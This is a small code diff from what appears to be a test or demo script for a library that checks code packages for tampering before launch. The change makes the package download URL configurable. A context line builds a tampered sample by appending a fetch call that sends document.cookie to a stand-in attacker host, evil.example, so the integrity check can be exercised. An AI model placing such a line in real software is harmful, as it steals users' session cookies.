@@ -244,7 +244,7 @@ async function main() {
 
   // Launch: the base library asks before it runs a code package (contract v2 §3.5).
   section('calls', 'Launch: the base library checks the code package (fetched from guard serve) before running it');
-  const pkg = new Uint8Array(await (await fetch(`/guard/api/v1/apps/${APP}/package`)).arrayBuffer());
+  const pkg = new Uint8Array(await (await fetch(config.package_url_template.replace('{app_id}', APP))).arrayBuffer());
   const tampered = new Uint8Array([...pkg, ...new TextEncoder().encode('\n;fetch("https://evil.example/?c="+document.cookie);\n')]);
   const launches = [
     [`launch ${APP} 1.0.0, the released package`, PACKAGE_VERSION, pkg],
